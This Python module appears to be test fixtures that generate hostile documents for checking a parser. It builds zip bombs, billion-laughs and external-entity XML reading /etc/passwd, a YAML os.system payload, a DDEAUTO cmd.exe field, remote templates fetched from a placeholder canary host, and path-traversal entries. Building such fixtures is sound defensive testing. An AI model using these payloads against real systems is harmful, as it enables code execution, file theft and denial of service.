"""Office files, settings files and data files made to harm whoever opens them."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
FAR = "http://192.0.2.7/canary"  # TEST-NET-1: reaches nobody
CITED = "根据《望川市安全生产条例》第二条，应当整改。"


def zipped(parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def document(inner: str = "", *, head: str = "") -> str:
    words = f"<w:p><w:r><w:t>{CITED}</w:t></w:r></w:p>"
    return f"{head}<w:document {W} {R}><w:body>{words}{inner}</w:body></w:document>"


def relations(*rows: tuple[str, str, str, bool]) -> str:
    cells = "".join(
        f'<Relationship Id="{key}" Type="{kind}" Target="{target}"'
        f"{' TargetMode=' + chr(34) + 'External' + chr(34) if outside else ''}/>"
        for key, kind, target, outside in rows
    )
    return f'<Relationships xmlns="{PACKAGE}/relationships">{cells}</Relationships>'


def docx(main: str | bytes, parts: dict[str, bytes | str] | None = None, rels: str | None = None) -> bytes:
    """A .docx that python-docx opens."""
    types = (
        f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
        f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" '
        f'ContentType="application/octet-stream"/><Override PartName="/word/document.xml" '
        f'ContentType="{MAIN}"/></Types>'
    )
    base: dict[str, bytes | str] = {
        "[Content_Types].xml": types,
        "_rels/.rels": relations(("r1", f"{OFFICE}/officeDocument", "word/document.xml", False)),
        "word/document.xml": main,
    }
    if rels:
        base["word/_rels/document.xml.rels"] = rels
    return zipped({**base, **(parts or {})})


def field(code: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{code}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>结果</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def laughs() -> str:
    lines = ['<!ENTITY a0 "ha">', *(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))]
    return document("<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>", head=f"<!DOCTYPE d [{''.join(lines)}]>")


def spaces(count: int) -> bytes:
    return b" " * count


def lying(parts: bytes) -> bytes:
    """The same zip whose directory and headers say that every part is one byte long."""
    out = bytearray(parts)
    with zipfile.ZipFile(io.BytesIO(parts)) as archive:
        entries = archive.infolist()
        at = archive.start_dir
    for entry in entries:
        out[entry.header_offset + 22 : entry.header_offset + 26] = (1).to_bytes(4, "little")
        out[at + 24 : at + 28] = (1).to_bytes(4, "little")
        at += 46 + len(entry.filename.encode()) + len(entry.extra) + len(entry.comment)
    return bytes(out)


WORD_BOMBS: dict[str, Callable[[], bytes]] = {
    "inflating": lambda: docx(document(), {"word/media/x.bin": spaces(400_000_000)}),
    "inflating styles": lambda: docx(document(), {"word/styles.xml": spaces(100_000_000)}),
    "lying": lambda: lying(docx(document(), {"word/styles.xml": spaces(300_000_000)})),
    "many parts": lambda: docx(document(), {f"word/x{n}.xml": "" for n in range(10_000)}),
    "many paragraphs": lambda: docx(document("<w:p/>" * 6_000_000)),
    "entities": lambda: docx(laughs()),
    "outside entity": lambda: docx(
        document(
            "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", head='<!DOCTYPE d [<!ENTITY x SYSTEM "/etc/passwd">]>'
        )
    ),
    "deep": lambda: docx(document("<w:sdt><w:sdtContent>" * 100_000)),
    "cut": lambda: docx(document())[:-60],
    "no zip": lambda: b"PK\x03\x04" + bytes(500),
}


def aliases() -> str:
    """Twelve lines that stand for 9¹² values."""
    rows = (f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
    return "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(rows)


SETTINGS_BOMBS: dict[str, Callable[[], bytes]] = {
    "aliases.yaml": lambda: aliases().encode(),
    "object.yaml": lambda: b"a: !!python/object/apply:os.system ['touch canary']\n",
    "deep.json": lambda: b"[" * 200_000,
    "deep.yaml": lambda: b"[" * 20_000,
    "list.json": lambda: json.dumps([1, 2]).encode(),
    "binary.json": lambda: bytes(range(256)) * 10,
}
ACTIVE: dict[str, Callable[[], bytes]] = {
    "macro": lambda: docx(
        document(),
        {"word/vbaProject.bin": b"\0" * 99},
        relations(("m", f"{MICROSOFT}/vbaProject", "vbaProject.bin", False)),
    ),
    "object": lambda: docx(
        document('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
                 'r:id="o"/></w:object></w:r></w:p>'),
        {"word/embeddings/oleObject1.bin": b"\0" * 99},
        relations(("o", f"{OFFICE}/oleObject", "embeddings/oleObject1.bin", False)),
    ),
    "template": lambda: docx(
        document(), rels=relations(("t", f"{OFFICE}/attachedTemplate", FAR + ".dotm", True))
    ),
    "picture": lambda: docx(document(), rels=relations(("p", f"{OFFICE}/image", FAR + ".png", True))),
    "file picture": lambda: docx(
        document(), rels=relations(("p", f"{OFFICE}/image", "file:///etc/passwd", True))
    ),
    "outside text": lambda: docx(
        document('<w:altChunk r:id="c"/>'), rels=relations(("c", f"{OFFICE}/aFChunk", FAR + ".html", True))
    ),
    "dde": lambda: docx(document(field(r"DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;"))),
    "simple field": lambda: docx(document('<w:p><w:fldSimple w:instr="INCLUDETEXT x"/></w:p>')),
    "include": lambda: docx(document(field("INCLUDETEXT &quot;/etc/passwd&quot;"))),
    "include picture": lambda: docx(document(field(f"INCLUDEPICTURE &quot;{FAR}&quot;"))),
    "path names": lambda: docx(document(), {"../../canary.xml": "<x/>", "/tmp/canary.xml": "<x/>"}),
}  # fmt: skip
